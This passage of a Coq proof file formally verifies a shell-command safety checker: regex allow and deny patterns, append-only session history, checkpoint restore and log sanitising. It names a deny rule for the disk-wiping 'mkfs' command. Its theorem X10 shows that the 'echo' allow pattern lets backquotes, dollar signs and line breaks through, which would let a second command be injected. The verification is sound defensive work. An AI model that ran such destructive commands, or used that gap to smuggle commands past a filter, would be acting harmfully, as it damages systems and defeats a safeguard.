    + apply in_seq. lia.
    + apply matches_at_true. eauto.
Qed.

(** A pattern that opens with [^] and a literal word matches only text
    that starts with the word. *)
Lemma test_anchored_word s w r :
  test (RSeq RBol (RSeq (cat (map RChar w)) r)) s = true ->
  is_prefix w s = true.
Proof.
  intros (i & j & _ & Hj)%test_true.
  apply in_ends_seq_inv in Hj as (k & Hk & Hj).
  cbn in Hk. destruct i as [|i]; cbn in Hk; [|done].
  destruct Hk as [<-|[]].
  apply in_ends_seq_inv in Hj as (k & Hk & _).
  rewrite ends_chars, drop_0 in Hk.
  by destruct (is_prefix w s).
Qed.

Lemma in_iterate_start (body : nat -> list nat) fuel i :
  In i (iterate body fuel i).
Proof. destruct fuel; by left. Qed.

(** Iterating a one-character pattern over a run of characters that all
    satisfy it reaches the end of the text. *)
Lemma in_iterate_run s (p : code_unit -> bool) n i :
  (i + n = length s)%nat ->
  forallb p (drop i s) = true ->
  In (length s) (iterate (step_char s p) n i).
Proof.
  revert i. induction n as [|n IH]; intros i Hi Hrun.
  - left. lia.
  - cbn [iterate]. right. unfold step_char.
    destruct (nth_error s i) as [d|] eqn:Hd.
    2:{ apply nth_error_None in Hd. lia. }
    rewrite (drop_nth_error s i d Hd) in Hrun.
    apply andb_true_iff in Hrun as [-> Hrun]. cbn [flat_map].
    rewrite (proj2 (Nat.ltb_lt i (S i))) by lia.
    rewrite app_nil_r. apply IH; [lia|done].
Qed.

Lemma ends_class_star s negated items i :
  ends s (RStar (RClass negated items)) i
  = iterate (step_char s (class_matches negated items)) (length s - i) i.
Proof. done. Qed.

Lemma in_ends_plus s r i k j :
  In k (ends s r i) ->
  In j (iterate (ends s r) (length s - i) k) ->
  In j (ends s (RPlus r) i).
Proof. intros Hk Hj. cbn [ends]. apply in_flat_map. eauto. Qed.

Lemma in_ends_chars_app w s :
  In (length w) (ends (w ++ s) (cat (map RChar w)) 0).
Proof.
  rewrite ends_chars, drop_0.
  assert (is_prefix w (w ++ s) = true) as ->; [|by left].
  induction w as [|c w IH]; cbn; [done|]. by rewrite N.eqb_refl.
Qed.

End RegExpFacts.

Section PatternTables.

Implicit Types (command text : jsstring).

(** X8.  The deny pattern [/mkfs/] is a substring test: a command that contains
    [mkfs] anywhere, as a word of its own or inside another, is obviously
    unsafe. *)
Theorem mkfs_anywhere_is_unsafe command :
  includes command (str "mkfs") = true -> isObviouslyUnsafe command = true.
Proof.
  intros Hin. unfold isObviouslyUnsafe. apply existsb_exists.
  exists (lit "mkfs"). split; [vm_compute; tauto|].
  unfold lit. by rewrite test_chars.
Qed.

(** X9.  The allow patterns accept nothing but commands that start with one of
    sixteen command words. *)
Theorem allowed_commands_start_with_known_word command :
  isStaticallySafe command = true ->
  existsb (fun word => is_prefix (str word) command)
    ["ls"; "pwd"; "echo"; "cd"; "cat"; "mkdir"; "cp"; "df"; "du"; "ps";
     "grep"; "ping"; "uname"; "whoami"; "date"; "apt"]%string = true.
Proof.
  unfold isStaticallySafe, safe_commands.
  intros (pattern & Hin & Htest)%existsb_exists.
  cbn [existsb]. cbn [In] in Hin.
  repeat (destruct Hin as [<-|Hin];
          [apply test_anchored_word in Htest; rewrite Htest;
           by rewrite ?orb_true_r|]).
  done.
Qed.

(** X10.  The allow pattern for [echo] accepts [echo], a space and any text free
    of the three characters vertical bar, greater-than and semicolon: line
    breaks, ampersands, backquotes and dollar signs are all let through. *)
Theorem echo_accepts_text_without_pipes text :
  forallb (fun c => negb ((c =? 124) || (c =? 62) || (c =? 59))) text = true ->
  isStaticallySafe (str "echo " ++ text) = true.
Proof.
  intros Htext. unfold isStaticallySafe. apply existsb_exists.
  exists (nth 2 safe_commands REmpty). split; [vm_compute; tauto|].
  apply test_true. exists 0%nat, (length (str "echo " ++ text)).
  split; [lia|].
  change (nth 2 safe_commands REmpty)
    with (RSeq RBol
            (RSeq (cat (map RChar (str "echo")))
               (RSeq (RPlus RegExp.space)
                  (RSeq (RStar (RClass true [CChar 124; CChar 62; CChar 59]))
                     (RSeq REol REmpty))))).
  set (s := str "echo " ++ text).
  apply (in_ends_seq s _ _ 0 0); [by left|].
  apply (in_ends_seq s _ _ 0 4).
  { apply (in_ends_chars_app (str "echo") (32 :: text)). }
  apply (in_ends_seq s _ _ 4 5).
  { apply (in_ends_plus s _ 4 5); [by left|]. apply in_iterate_start. }
  apply (in_ends_seq s _ _ 5 (length s)).
  { rewrite ends_class_star. apply in_iterate_run.
    - subst s. rewrite length_app.
      change (length (str "echo ")) with 5%nat. lia.
    - subst s. change (drop 5 (str "echo " ++ text)) with text.
      etrans; [|exact Htext]. clear.
      induction text as [|c text IH]; [done|]. cbn [forallb].
      rewrite IH. f_equal. unfold class_matches. cbn.
      by rewrite !orb_false_r, <- !orb_assoc. }
  apply (in_ends_seq s _ _ (length s) (length s)); [|by left].
  cbn. rewrite Nat.eqb_refl. by left.
Qed.

End PatternTables.

(** * More on the session state *)

Section SessionHistory.

Import History.

Implicit Types (this : sessionManager) (cmd now : jsstring)
  (r : option CommandResult) (c : CommandInfo) (i j : nat)
  (l : list CommandInfo).

Lemma stamp_set_result r c : stamp (set_result r c) = stamp c.
Proof. done. Qed.

Lemma map_stamp_alter r i l :
  map stamp (alter (set_result r) i l) = map stamp l.
Proof.
  revert i. induction l as [|c l IH]; intros [|i]; cbn; [done..|].
  by rewrite IH.
Qed.

Lemma setCommandResult_stamps this cmd r :
  map stamp (this_commands (setCommandResult cmd r this))
  = map stamp (this_commands this).
Proof.
  unfold setCommandResult. destruct (findIndex _ _); [|done].
  apply map_stamp_alter.
Qed.

(** The search of [setCommandResult] looks at the command texts only. *)
Lemma findIndex_command cmd l l' :
  map command l = map command l' ->
  findIndex (fun c => command c = cmd) l
  = findIndex (fun c => command c = cmd) l'.
Proof.
  unfold findIndex. revert l'.
  induction l as [|c l IH]; intros [|c' l'] Heq; try done.
  cbn in Heq. injection Heq as Hc Hl. cbn. rewrite Hc.
  case_decide; [done|]. specialize (IH l' Hl).
  destruct (list_find _ l) as [[]|], (list_find _ l') as [[]|];
    cbn in *; congruence.
Qed.

Lemma map_command_alter r i l :
  map command (alter (set_result r) i l) = map command l.
Proof.
  revert i. induction l as [|c l IH]; intros [|i]; cbn; [done..|].
  by rewrite IH.
Qed.

(** X11.  The history is append-only: under any sequence of [addCommand],
    [setCommandResult] and [setConnectionInfo] the command texts and
    dispatch instants of the records already present stay as they are, in
    their order, and the dispatches of the sequence follow them in the
    order they were made.  No record is removed, reordered or inserted. *)
Theorem history_append_only ops this :
  map stamp (this_commands (run ops this))
  = map stamp (this_commands this) ++ dispatched ops.
Proof.
  revert this. induction ops as [|op ops IH]; intros this.
  - cbn. by rewrite app_nil_r.
  - cbn [run foldl]. fold (run ops (apply op this)). rewrite IH.
    destruct op as [cmd now|cmd r|info]; cbn [apply dispatched omap].
    + cbn. rewrite map_app, <- app_assoc. done.
    + by rewrite setCommandResult_stamps.
    + done.
Qed.

(** X12.  Running a command text again: the new record receives the result only
    when no earlier record carries the text; when one does, the result goes
    to the earliest such record and the new record stays pending. *)
Theorem repeated_command_result this cmd now r :
  ((forall c, In c (this_commands this) -> command c <> cmd) ->
   this_commands (setCommandResult cmd r (addCommand cmd now this))
   = this_commands this
       ++ [{| command := cmd; executedAt := now; result := r |}])
  /\ (forall i c,
        this_commands this !! i = Some c -> command c = cmd ->
        (forall j c', (j < i)%nat -> this_commands this !! j = Some c' ->
                      command c' <> cmd) ->
        this_commands (setCommandResult cmd r (addCommand cmd now this))
        = <[i := set_result r c]> (this_commands this)
            ++ [{| command := cmd; executedAt := now; result := None |}]).
Proof.
  split.
  - intros Hnone. unfold setCommandResult.
    assert (findIndex (fun c => command c = cmd)
              (this_commands (addCommand cmd now this))
            = Some (length (this_commands this))) as ->.
    { apply findIndex_Some. eexists. split_and!.
      - cbn. by apply list_lookup_middle.
      - done.
      - intros j y Hj Hlt. cbn in Hj.
        rewrite lookup_app_l in Hj by done.
        apply Hnone, list_elem_of_In. by eapply list_elem_of_lookup_2. }
    cbn. rewrite alter_app_r_alt by done.
    by rewrite Nat.sub_diag.
  - intros i c Hi Hc Hfirst. unfold setCommandResult.
    assert (findIndex (fun c => command c = cmd)
              (this_commands (addCommand cmd now this)) = Some i) as ->.
    { apply findIndex_Some. exists c. split_and!.
      - cbn. by apply lookup_app_l_Some.
      - done.
      - intros j y Hj Hlt. cbn in Hj.
        apply lookup_lt_Some in Hi.
        rewrite lookup_app_l in Hj by lia. by apply (Hfirst j). }
    cbn. apply lookup_lt_Some in Hi as Hlt.
    rewrite alter_app_l by done. f_equal.
    apply list_eq. intros j. destruct (decide (j = i)) as [->|Hne].
    + rewrite list_lookup_alter_eq, list_lookup_insert_eq by done.
      by rewrite Hi.
    + by rewrite list_lookup_alter_ne, list_lookup_insert_ne.
Qed.

(** X13.  Of two results recorded for one command text the later one stands,
    and results recorded for different texts do not interfere. *)
Theorem setCommandResult_composition this cmd r1 r2 :
  setCommandResult cmd r2 (setCommandResult cmd r1 this)
  = setCommandResult cmd r2 this
  /\ (forall cmd', cmd' <> cmd ->
        setCommandResult cmd' r2 (setCommandResult cmd r1 this)
        = setCommandResult cmd r1 (setCommandResult cmd' r2 this)).
Proof.
  assert (forall cmd0 cmd1 r,
            findIndex (fun c => command c = cmd0)
              (this_commands (setCommandResult cmd1 r this))
            = findIndex (fun c => command c = cmd0) (this_commands this))
    as Hfind.
  { intros cmd0 cmd1 r. apply findIndex_command.
    unfold setCommandResult. destruct (findIndex _ _); [|done].
    apply map_command_alter. }
  split.
  - unfold setCommandResult at 1. rewrite Hfind.
    unfold setCommandResult.
    destruct (findIndex _ _) as [i|] eqn:Hi; [|done]. cbn. f_equal.
    apply list_eq. intros j. destruct (decide (j = i)) as [->|Hne].
    + rewrite !list_lookup_alter_eq. by destruct (_ !! i).
    + by rewrite !list_lookup_alter_ne.
  - intros cmd' Hne.
    unfold setCommandResult at 1 3. rewrite !Hfind.
    unfold setCommandResult.
    destruct (findIndex (fun c => command c = cmd') _) as [i'|] eqn:Hi';
      destruct (findIndex (fun c => command c = cmd) _) as [i|] eqn:Hi;
      cbn; try done.
    f_equal. apply findIndex_Some in Hi' as (c' & Hc' & Hcmd' & _).
    apply findIndex_Some in Hi as (c & Hc & Hcmd & _).
    assert (i <> i') as Hii by (intros ->; congruence).
    apply list_eq. intros j.
    destruct (decide (j = i')) as [Hj'|Hj'];
      destruct (decide (j = i)) as [Hj|Hj]; try congruence; subst;
      rewrite ?list_lookup_alter_eq, ?list_lookup_alter_ne by done;
      rewrite ?list_lookup_alter_eq, ?list_lookup_alter_ne by done; done.
Qed.

(** X14.  A snapshot restored into a newly constructed manager reproduces the
    state it was taken from, and restoring the same checkpoint twice is
    restoring it once. *)
Theorem snapshot_restore this checkpoint :
  restoreFromCheckpoint (getCheckpoint this) Session.constructor = this
  /\ restoreFromCheckpoint checkpoint (restoreFromCheckpoint checkpoint this)
     = restoreFromCheckpoint checkpoint this.
Proof.
  destruct this as [[info|] cmds], checkpoint as [[info'|] cmds']; by cbn.
Qed.

End SessionHistory.

(** * JSON text in files *)

Section JsonFiles.

Implicit Types (v : json) (space : nat).

(** X15.  The text [JSON.stringify] produces holds no surrogate outside a pair,
    whatever strings the value holds: a lone surrogate is written as an
    escape.  Encoding the text as UTF-8 and decoding it, with whatever
    follows it, gives the text back. *)
Theorem stringify_text_well_paired v space :
  well_paired (JSON_stringify v space).
Proof.
  apply well_paired_serialize; [|apply well_paired_nil].
  by apply well_paired_ws, forallb_repeat.
Qed.

(** X16.  A value whose numbers are safe integers and whose objects have
    distinct keys, none an array index, is read back from a UTF-8 file that
    holds its [JSON.stringify] text, at any indentation. *)
Theorem json_round_trip_through_file v space :
  representable v = true ->
  JSON_parse (utf8_text (JSON_stringify v space)) = Normal v.
Proof.
  intros Hv. by rewrite utf8_text_stringify, JSON_parse_stringify.
Qed.

End JsonFiles.

(** * Start-up and the command handler *)

#[local] Arguments checkCommandSafety : simpl never.

Section Restart.

Import Index.

Variable CHECKPOINT_PATH : jsstring.

Implicit Types (this : Session.sessionManager) (checkpoint : SessionCheckpoint)
  (fs : gmap jsstring jsstring).

Lemma untyped_restore_checkpoint checkpoint (session : Untyped.sessionManager) :
  Untyped.restoreFromCheckpoint (checkpoint_to_json checkpoint) session
  = Normal
      {| Untyped.this_connectionInfo :=
           match connectionInfo checkpoint with
           | Some info => Some (connection_to_json info)
           | None => Untyped.this_connectionInfo session
           end;
         Untyped.this_commands := map command_to_json (commands checkpoint) |}.
Proof.
  destruct checkpoint as [[info|] cmds]; by vm_compute.
Qed.

(** X17.  On the JSON value of a checkpoint, restoring the value into the values
    a manager holds is restoring the checkpoint into the manager. *)
Theorem untyped_restore_agrees checkpoint this :
  Untyped.restoreFromCheckpoint (checkpoint_to_json checkpoint)
    (Untyped.of_session this)
  = Normal (Untyped.of_session (Session.restoreFromCheckpoint checkpoint this)).
Proof.
  rewrite untyped_restore_checkpoint.
  by destruct checkpoint as [[info|] cmds], this as [[info'|] cmds'].
Qed.

(** X18.  A session saved when the process stops is the session the next process
    starts with: after a save of the snapshot that the file system carries
    out, the start-up statements leave the manager holding the values of
    the saved state. *)
Theorem restart_restores_session this fs :
  wf_checkpoint (getCheckpoint this) ->
  startup CHECKPOINT_PATH
    (saveCheckpoint CHECKPOINT_PATH (getCheckpoint this) true fs).2
  = Normal (Untyped.of_session this).
Proof.
  intros Hwf. unfold startup.
  rewrite bool_decide_eq_true_2.
  2:{ unfold saveCheckpoint, writeFile. cbn [snd].
      rewrite lookup_insert_eq. by eexists. }
  rewrite load_after_save by by apply representable_checkpoint.
  cbn [mbind completion_bind bind].
  rewrite untyped_restore_checkpoint.
  by destruct this as [[info|] cmds].
Qed.

(** X19.  Start-up survives a checkpoint it cannot use: with no checkpoint file,
    with one whose text [JSON.parse] rejects, and with one that holds a
    value other than an object ([null], which makes the restore throw, a
    number, a string, an array), the manager stays as constructed and
    nothing is thrown.  [JSON_parse] throws on every text that is not a
    JSON text ([JSON_parse_Unmodelled], [JSON_parse_rejects]). *)
Theorem startup_tolerates_unusable_checkpoint fs :
  fs !! CHECKPOINT_PATH = None
  \/ (exists text error, fs !! CHECKPOINT_PATH = Some text
                         /\ JSON_parse text = Throw error)
  \/ (exists text v, fs !! CHECKPOINT_PATH = Some text
                     /\ JSON_parse text = Normal v
                     /\ match v with JObj _ => False | _ => True end) ->
  startup CHECKPOINT_PATH fs = Normal Untyped.constructor.
Proof.
  unfold startup, loadCheckpoint, readFileSync.
  intros [Hnone|[(text & error & Hsome & Hparse)
                |(text & v & Hsome & Hparse & Hv)]].
  - rewrite Hnone. by rewrite bool_decide_eq_false_2 by by intros [].
  - rewrite Hsome. rewrite bool_decide_eq_true_2 by by eexists.
    cbn [mbind completion_bind bind]. by rewrite Hparse.
  - rewrite Hsome. rewrite bool_decide_eq_true_2 by by eexists.
    cbn [mbind completion_bind bind]. rewrite Hparse.
    by destruct v.
Qed.

End Restart.

Section Handler.

Import Index.

Variable COMMAND_HISTORY_PATH : jsstring.
Variable toUpperCase : jsstring -> jsstring.
Variable race : nat -> jsstring -> option json -> jsstring -> race_outcome.

Implicit Types (secAgent : secagent) (session : Session.sessionManager)
  (command now : jsstring) (fs : gmap jsstring jsstring).

(** The loop around an evaluation that completes is that evaluation. *)
Lemma safety_loop_completes (check : traced bool) verdict :
  check.2 = Normal verdict -> safety_loop 3 check false = check.
Proof. destruct check as [t r]. cbn. by intros ->. Qed.

Lemma safety_loop_throws (check : traced bool) error :
  check.2 = Throw error ->
  safety_loop 3 check false
  = (check.1 ++ Delay 1000 :: check.1 ++ Delay 1000 :: check.1, Throw error).
Proof.
  destruct check as [t r]. cbn. intros ->. cbn.
  by rewrite app_nil_r.
Qed.

Lemma safety_loop_cases (check : traced bool) :
  (safety_loop 3 check false).2 = check.2.
Proof. by destruct check as [t [b|e|]]. Qed.

(** X20.  A command reaches the connection only when the handler is connected
    and the agent judged that very command safe; the dispatch has then
    been appended to the history, without a result. *)
Theorem handed_over_only_when_judged_safe
    secAgent isConnected command now written session fs handed :
  answer (run_safe_command COMMAND_HISTORY_PATH toUpperCase race secAgent
            isConnected command now written session fs)
    = Normal (HandedOver handed) ->
  handed = command /\ isConnected = true
  /\ (checkCommandSafety toUpperCase race secAgent command).2 = Normal true
  /\ this_commands
       (session_after
          (run_safe_command COMMAND_HISTORY_PATH toUpperCase race secAgent
             isConnected command now written session fs))
     = this_commands session
         ++ [{| command := command; executedAt := now; result := None |}].
Proof.
  unfold run_safe_command. destruct isConnected; cbn [negb]; [|done].
  pose proof (safety_loop_cases
                (checkCommandSafety toUpperCase race secAgent command))
    as Hloop.
  destruct (safety_loop _ _ _) as [t r]. cbn in Hloop. subst r.
  cbn [answer session_after].
  destruct (checkCommandSafety _ _ _ _).2 as [[|]|e|]; cbn; try done.
  by intros [= <-].
Qed.

(** X21.  With the agent enabled, a command that matches a deny pattern is
    refused after a single evaluation and never handed to the connection;
    its dispatch stays in the history without a result. *)
Theorem denied_command_is_refused
    secAgent command now written session fs :
  get (secagentconfig secAgent) (str "ENABLE_SECAGENT")
    = Normal (Some (JBool true)) ->
  isObviouslyUnsafe command = true ->
  run_safe_command COMMAND_HISTORY_PATH toUpperCase race secAgent true
    command now written session fs
  = {| answer := Normal Refused;
       session_after := addCommand command now session;
       files_after :=
         save_command_history COMMAND_HISTORY_PATH
           (addCommand command now session) written fs;
       checks := [DenyCheck command] |}.
Proof.
  intros Hen Hdeny. unfold run_safe_command. cbn [negb].
  rewrite (safety_loop_completes _ false);
    by rewrite (check_enabled_deny _ _ _ _ Hen Hdeny).
Qed.

(** X22.  When the configuration is [null] every evaluation throws: the handler
    evaluates three times, a second apart, and answers with the error; the
    command is not handed over, and its dispatch stays in the history. *)
Theorem null_configuration_fails_the_call
    secAgent command now written session fs :
  secagentconfig secAgent = JNull ->
  run_safe_command COMMAND_HISTORY_PATH toUpperCase race secAgent true
    command now written session fs
  = {| answer := Throw TypeError;
       session_after := addCommand command now session;
       files_after :=
         save_command_history COMMAND_HISTORY_PATH
           (addCommand command now session) written fs;
       checks := [Delay 1000; Delay 1000] |}.
Proof.
  intros Hnull. unfold run_safe_command. cbn [negb].
  rewrite (safety_loop_throws _ TypeError);
    unfold checkCommandSafety; by rewrite Hnull.
Qed.

(** Without a connection the handler answers at once: no dispatch is
    recorded, no file is written and no check is made. *)
Lemma not_connected_changes_nothing secAgent command now written session fs :
  run_safe_command COMMAND_HISTORY_PATH toUpperCase race secAgent false
    command now written session fs
  = {| answer := Normal NotConnected; session_after := session;
       files_after := fs; checks := [] |}.
Proof. done. Qed.

(** X23.  The command-history file written at a dispatch reads back as the
    history with the new, pending record at its end. *)
Theorem command_history_file_reads_back
    secAgent command now session fs :
  Forall wf_command (this_commands session) ->
  (text ← readFileSync COMMAND_HISTORY_PATH
            (files_after
               (run_safe_command COMMAND_HISTORY_PATH toUpperCase race
                  secAgent true command now true session fs));
   JSON_parse text)
  = Normal (JArr (map command_to_json
                    (this_commands session
                       ++ [{| command := command; executedAt := now;
                              result := None |}]))).
Proof.
  intros Hwf. unfold run_safe_command. cbn [negb].
  destruct (safety_loop _ _ _) as [t r]. cbn [files_after].
  unfold save_command_history, writeFile, readFileSync. cbn [snd].
  rewrite lookup_insert_eq. cbn [mbind completion_bind bind].
  rewrite utf8_text_stringify, JSON_parse_stringify; [done|].
  apply representable_arr, Forall_map. cbn.
  apply Forall_app. split.
  - eapply Forall_impl; [exact Hwf|]. apply representable_command.
  - repeat constructor.
Qed.

End Handler.

(** * Sanitising logged data *)

Section SanitizeData.

Import Logger.

Variable toLowerCase : jsstring -> jsstring.

Local Abbreviation sensitive := (Logger.sensitive toLowerCase).
Local Abbreviation sanitizeData := (Logger.sanitizeData toLowerCase).
Local Abbreviation masked := (Logger.masked toLowerCase).

Implicit Types (data v : json) (key k : jsstring)
  (o members : list (jsstring * json)) (items : list json).

(** ** Objects under construction *)

Lemma replace_key_Forall (P : jsstring * json -> Prop) k v o :
  Forall P o -> P (k, v) -> Forall P (replace_key k v o).
Proof.
  intros Ho Hkv. induction Ho as [|[k' v'] o Hx Ho IH]; cbn; [done|].
  case_decide as Hk; [subst k'|]; by constructor.
Qed.

Lemma insert_index_Forall (P : jsstring * json -> Prop) i k v o :
  Forall P o -> P (k, v) -> Forall P (insert_index i k v o).
Proof.
  intros Ho Hkv. induction Ho as [|[k' v'] o Hx Ho IH]; cbn.
  - by repeat constructor.
  - destruct (array_index k') as [j|]; [destruct (j <? i)|];
      by repeat constructor.
Qed.

Lemma obj_set_Forall (P : jsstring * json -> Prop) k v o :
  Forall P o -> P (k, v) -> Forall P (obj_set k v o).
Proof.
  intros Ho Hkv. unfold obj_set. destruct (has_key k o).
  - by apply replace_key_Forall.
  - destruct (array_index k).
    + by apply insert_index_Forall.
    + apply Forall_app. by repeat constructor.
Qed.

Lemma assign_Forall (P : jsstring * json -> Prop) k v o :
  Forall P o -> P (k, v) -> Forall P (assign k v o).
Proof.
  intros Ho Hkv. unfold assign. case_bool_decide; [done|].
  by apply obj_set_Forall.
Qed.

Lemma foldl_assign_Forall (P : jsstring * json -> Prop)
    (f : jsstring -> json -> json) members o :
  Forall P o ->
  Forall (fun km => P (km.1, f km.1 km.2)) members ->
  Forall P (foldl (fun result '(key, v) => assign key (f key v) result)
                  o members).
Proof.
  intros Ho Hm. revert o Ho.
  induction Hm as [|[k v] members Hkv _ IH]; intros o Ho; cbn; [done|].
  apply IH. by apply assign_Forall.
Qed.

Lemma each_element_Forall (P : json -> Prop) (f : nat -> json -> json)
    items i :
  Forall (fun v => forall j, P (f j v)) items ->
  Forall P (each_element f i items).
Proof.
  intros Hitems. revert i.
  induction Hitems as [|v items Hv _ IH]; intros i; cbn; by constructor.
Qed.

(** ** Nothing is left under a sensitive key *)

(** X24.  In what [sanitizeData] returns, at every depth, the value under a
    key that tests sensitive is the mask. *)
Theorem sanitizeData_masks_sensitive_keys data :
  masked (sanitizeData data) = true.
Proof.
  induction data as [|b|n|s|items IH|members IH] using json_ind;
    try done.
  - cbn [Logger.sanitizeData Logger.masked].
    apply forallb_forall. setoid_rewrite <- list_elem_of_In.
    apply Forall_forall, each_element_Forall.
    eapply Forall_impl; [exact IH|]. intros v Hv j. cbn beta.
    by destruct (sensitive _).
  - cbn [Logger.sanitizeData Logger.masked].
    apply forallb_forall. setoid_rewrite <- list_elem_of_In.
    apply Forall_forall.
    apply (foldl_assign_Forall
             (fun km => (let '(k, m) := km in
                         if sensitive k then is_mask m else masked m) = true)
             (fun key v => if sensitive key then mask else sanitizeData v));
      [done|].
    eapply Forall_impl; [exact IH|]. intros [k v] Hv. cbn in *.
    by destruct (sensitive k).
Qed.

(** ** The shape of the result *)

(** What [sanitizeData] puts under a key. *)
Local Abbreviation redact :=
  (fun '(k, v) => (k, if sensitive k then mask else sanitizeData v)).

Local Abbreviation own_key :=
  (fun km : jsstring * json => negb (bool_decide (km.1 = str "__proto__"))).

Lemma foldl_assign_plain (f : jsstring -> json -> json) members acc :
  NoDup (map fst acc ++ map fst members) ->
  forallb (fun '(k, _) => plain_key k) members = true ->
  foldl (fun result '(key, v) => assign key (f key v) result) acc members
  = acc ++ map (fun '(k, v) => (k, f k v)) (List.filter own_key members).
Proof.
  revert acc.
  induction members as [|[k v] members IH]; intros acc Hdup Hplain.
  { cbn. by rewrite app_nil_r. }
  cbn in Hplain. apply andb_true_iff in Hplain as [Hk Hplain].
  cbn [foldl List.filter fst]. unfold assign at 2.
  cbn [map] in Hdup. apply NoDup_app in Hdup as (Hacc & Hdisj & Hms).
  apply NoDup_cons in Hms as [Hkms Hms].
  case_bool_decide as Hproto; cbn [negb].
  - apply IH; [|done]. apply NoDup_app. split_and!; [done| |done].
    intros x Hx Hx'. apply (Hdisj x Hx). by right.
  - assert (obj_set k (f k v) acc = acc ++ [(k, f k v)]) as ->.
    { unfold obj_set. rewrite has_key_false.
      - unfold plain_key in Hk. by destruct (array_index k).
      - intros Hin. apply (Hdisj k Hin). by left. }
    rewrite IH; [by rewrite <- app_assoc| |done].
    rewrite map_app. cbn [map fst]. rewrite <- app_assoc. cbn [app].
    apply NoDup_app. split_and!; [done| |by apply NoDup_cons].
    intros x Hx Hx'. apply (Hdisj x Hx). done.
Qed.

Lemma sanitizeData_object members :
  NoDup (map fst members) ->
  forallb (fun '(k, _) => plain_key k) members = true ->
  sanitizeData (JObj members)
  = JObj (map redact (List.filter own_key members)).
Proof.
  intros Hdup Hplain. cbn [Logger.sanitizeData].
  by rewrite (foldl_assign_plain
                (fun k v => if sensitive k then mask else sanitizeData v)).
Qed.

Lemma filter_own_key_keys members :
  map fst (map redact (List.filter own_key members))
  = List.filter (fun k => negb (bool_decide (k = str "__proto__")))
      (map fst members).
Proof.
  induction members as [|[k v] members IH]; [done|].
  cbn [List.filter map fst]. destruct (bool_decide _); cbn [negb map fst].
  - exact IH.
  - f_equal. exact IH.
Qed.

Lemma NoDup_filter_keys (p : jsstring -> bool) (keys : list jsstring) :
  NoDup keys -> NoDup (List.filter p keys).
Proof.
  induction 1 as [|k keys Hk _ IH]; cbn; [constructor|].
  destruct (p k); [|done]. constructor; [|done].
  rewrite list_elem_of_In, filter_In. intros [Hin _].
  by apply Hk, list_elem_of_In.
Qed.

Lemma each_element_idempotent (f : nat -> json -> json) items i :
  Forall (fun v => forall j, f j (f j v) = f j v) items ->
  each_element f i (each_element f i items) = each_element f i items.
Proof.
  intros Hitems. revert i.
  induction Hitems as [|v items Hv _ IH]; intros i; cbn; [done|].
  by rewrite Hv, IH.
Qed.

(** X25.  Sanitising twice is sanitising once, for data whose objects have
    distinct keys, none an array index. *)
Theorem sanitizeData_idempotent data :
  representable data = true ->
  sanitizeData (sanitizeData data) = sanitizeData data.
Proof.
  induction data as [|b|n|s|items IH|members IH] using json_ind;
    intros Hrep; try done.
  - cbn [Logger.sanitizeData]. f_equal.
    apply each_element_idempotent.
    apply representable_arr in Hrep.
    rewrite Forall_forall in IH, Hrep. apply Forall_forall.
    intros v Hv j. cbn beta. destruct (sensitive (index_key j)); [done|].
    by apply IH, Hrep.
  - apply representable_obj in Hrep as (Hrep & Hplain & Hdup).
    rewrite (sanitizeData_object members Hdup Hplain).
    rewrite sanitizeData_object.
    + f_equal. clear Hdup Hplain.
      induction members as [|[k v] members IHm]; [done|].
      apply Forall_cons in IH as [IHv IH].
      apply Forall_cons in Hrep as [Hv Hrep].
      cbn [List.filter fst]. case_bool_decide as Hproto; cbn [negb map].
      * by apply IHm.
      * cbn [List.filter fst map].
        rewrite bool_decide_eq_false_2 by done. cbn [negb map].
        rewrite (IHm IH Hrep). f_equal.
        destruct (sensitive k); [done|]. f_equal. by apply IHv.
    + rewrite filter_own_key_keys. by apply NoDup_filter_keys.
    + clear IH Hrep Hdup.
      induction members as [|[k v] members IHm]; [done|].
      cbn in Hplain. apply andb_true_iff in Hplain as [Hk Hplain].
      cbn [List.filter fst]. destruct (bool_decide _); cbn [negb map forallb].
      * by apply IHm.
      * by rewrite Hk, IHm.
Qed.

(** ** Arrays *)

Lemma digits_all_digits u : forallb is_digit (digits u) = true.
Proof. induction u; cbn [digits forallb]; by rewrite ?IHu. Qed.

Lemma index_key_digits i : forallb is_digit (index_key i) = true.
Proof.
  unfold index_key, number_to_string. destruct (Z.of_nat i) eqn:Hi.
  - done.
  - apply digits_all_digits.
  - lia.
Qed.

Lemma includes_digits s w c :
  forallb is_digit s = true -> is_digit c = false ->
  includes s (c :: w) = false.
Proof.
  intros Hs Hc. induction s as [|d s IH]; [done|].
  cbn in Hs. apply andb_true_iff in Hs as [Hd Hs].
  cbn [includes is_prefix]. rewrite (IH Hs), orb_false_r.
  destruct (c =? d) eqn:Hcd; [|done].
  apply N.eqb_eq in Hcd as ->. congruence.
Qed.

Section Arrays.

(** Lower-casing leaves a string of decimal digits as it is. *)
Hypothesis toLowerCase_digits :
  forall s, forallb is_digit s = true -> toLowerCase s = s.

Lemma index_key_not_sensitive i : sensitive (index_key i) = false.
Proof.
  unfold Logger.sensitive.
  rewrite (toLowerCase_digits _ (index_key_digits i)).
  repeat match goal with
         | |- context [str ?w] =>
             let w' := eval vm_compute in (str w) in change (str w) with w'
         end.
  by rewrite !(includes_digits _ _ _ (index_key_digits i)).
Qed.

Lemma each_element_map items i :
  each_element
    (fun i v => if sensitive (index_key i) then mask else sanitizeData v)
    i items
  = map sanitizeData items.
Proof.
  revert i. induction items as [|v items IH]; intros i; cbn; [done|].
  by rewrite index_key_not_sensitive, IH.
Qed.

(** X26.  The shape of the data is kept.  A primitive is returned as it is; an
    array keeps its length and order, each element sanitised and none
    masked; an object with distinct keys, none an array index, keeps its
    keys in their order, [__proto__] apart, the value under a sensitive
    key replaced by the mask and any other value sanitised. *)
Theorem sanitizeData_shape :
  (forall data,
     match data with JArr _ | JObj _ => False | _ => True end ->
     sanitizeData data = data)
  /\ (forall items, sanitizeData (JArr items) = JArr (map sanitizeData items))
  /\ (forall members,
        NoDup (map fst members) ->
        forallb (fun '(k, _) => plain_key k) members = true ->
        sanitizeData (JObj members)
        = JObj (map (fun '(k, v) =>
                       (k, if sensitive k then mask else sanitizeData v))
                  (List.filter
                     (fun km => negb (bool_decide (km.1 = str "__proto__")))
                     members))).
Proof.
  split_and!.
  - by intros [].
  - intros items. cbn [Logger.sanitizeData]. by rewrite each_element_map.
  - apply sanitizeData_object.
Qed.

End Arrays.

End SanitizeData.

(** * Further statements at work *)

Import Trace Index Logger.

(** X1 at work: the flag holds the string [true]. *)
Lemma non_true_flag_disables_witness :
  get (secagentconfig (Examples.flag_only (JStr (str "true"))))
      (str "ENABLE_SECAGENT") = Normal (Some (JStr (str "true")))
